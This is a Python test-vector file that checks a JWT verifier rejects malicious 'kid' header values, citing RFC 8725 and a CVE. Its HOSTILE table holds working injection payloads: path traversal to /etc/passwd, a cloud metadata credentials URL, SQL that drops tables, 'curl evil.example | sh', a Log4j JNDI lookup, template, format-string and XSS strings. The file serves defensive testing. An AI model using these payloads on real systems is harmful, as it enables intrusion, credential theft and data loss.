"""`kid`: a name that is looked up in one key set and used for nothing else."""

from typing import Any

from tests.tokens import ABSENT, GATEWAY_KEY, OKTA_KEY, OKTA_NEXT_KEY, STRANGER_KEY, hs256, signing_key
from tests.vectors.rows import ACCEPTED, changed

KID = "RFC 7515 4.1.4"
LOOKUP = "RFC 8725 3.10; OWASP, JSON Web Token cheat sheet"

# Names that some verifier used as a path, a query, a command, an address or a format.
HOSTILE = {
    "dev null": "../../../../../../dev/null",
    "a path with NUL": "../../../etc/passwd\x00.pem",
    "a file with known content": "/proc/sys/kernel/randomize_va_space",
    "an encoded path": "..%2f..%2f..%2fdev%2fnull",
    "a path of Windows": "..\\..\\windows\\win.ini",
    "a file URL": "file:///dev/null",
    "an address": "https://evil.example/keys#okta-active",
    "the address of metadata": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "SQL that yields a key": "x' UNION SELECT 'c2VjcmV0'-- -",
    "SQL that is always true": "' OR '1'='1",
    "SQL that drops": "okta-active'; DROP TABLE keys;--",
    "an operator of MongoDB": '{"$ne": null}',
    "LDAP": "*)(uid=*))(|(uid=*",
    "XPath": "' or '1'='1' or ''='",
    "a command": "okta-active; curl evil.example | sh",
    "a command in backquotes": "`id`",
    "a command in dollars": "$(id)",
    "a pipe of Ruby's open": "|id",
    "a template": "{{7*7}}${7*7}<%= 7*7 %>",
    "a lookup of Log4j": "${jndi:ldap://evil.example/a}",
    "a format": "%s%n%x{0.__class__}",
    "a header": "okta-active\r\nX-Injected: 1",
    "an escape sequence": "\x1b[2Jokta-active",
    "a line break": "okta-active\n",
    "NUL at its end": "okta-active\x00",
    "NUL in front": "\x00okta-active",
    "a space at its end": "okta-active ",
    "a space in front": " okta-active",
    "upper case": "OKTA-ACTIVE",
    "a look-alike": "\u043ekta-active",
    "full width": "\uff4fkta-active",
    "a zero-width space": "okta\u200b-active",
    "another normal form": "ke\u0301y/\u9375",
    "from right to left": "\u202eevitca-atko",
    "the prototype": "__proto__",
    "a constructor": "constructor",
    "a method of Python": "__class__",
    "an index": "0",
    "a wildcard": "*",
    "a regular expression": "okta-.*",
    "a list as text": '["okta-active"]',
    "quotes": '"okta-active"',
    "markup": "<script>alert(1)</script>",
    "an empty JSON object": "{}",
    "a name of 256 characters": "a" * 256,
}

NO_NAMES: dict[str, Any] = {
    "null": None, "true": True, "false": False, "zero": 0, "minus one": -1, "a float": 1.5, "a huge number": 10**40,
    "a list": [OKTA_KEY], "an empty list": [], "an object": {"$ne": None}, "an object with the name": {"kid": OKTA_KEY},
    "an object with toString": {"toString": "x"},
    "the empty string": "", "a name of 257 characters": "a" * 257, "a name of 5000 characters": "a" * 5000,
    "missing": ABSENT,
}  # fmt: skip

ROWS = [
    *(changed(f"kid: {name}", LOOKUP, "no_matching_key", header={"kid": kid}) for name, kid in HOSTILE.items()),
    *(changed(f"kid: {name}", f"{KID}; CVE-2022-23529", "key_id_malformed", header={"kid": kid})
      for name, kid in NO_NAMES.items()),
    changed("kid of a file with known content, HMAC with that content", LOOKUP, "algorithm_refused",
            header={"alg": "HS256", "kid": "/dev/null"}, key=hs256(b"")),
    changed("kid of the gateway's own key", "RFC 8725 3.8", "no_matching_key", header={"kid": GATEWAY_KEY},
            key=signing_key(GATEWAY_KEY)),
    changed("kid of nobody's key", "RFC 8725 3.8", "no_matching_key", header={"kid": STRANGER_KEY},
            key=signing_key(STRANGER_KEY)),
    changed("kid of Okta's other key", KID, "signature_invalid", header={"kid": OKTA_NEXT_KEY}),
    changed("Okta's next key under the active one's kid", KID, "signature_invalid", key=signing_key(OKTA_NEXT_KEY)),
    changed("Okta's next key", KID, ACCEPTED, header={"kid": OKTA_NEXT_KEY}, key=signing_key(OKTA_NEXT_KEY)),
    changed("a kid beyond ASCII", KID, ACCEPTED, header={"kid": "k\u00e9y/\u9375"}),
    changed("a kid of 256 characters that is published", KID, ACCEPTED, header={"kid": "k" * 256}),
]  # fmt: skip
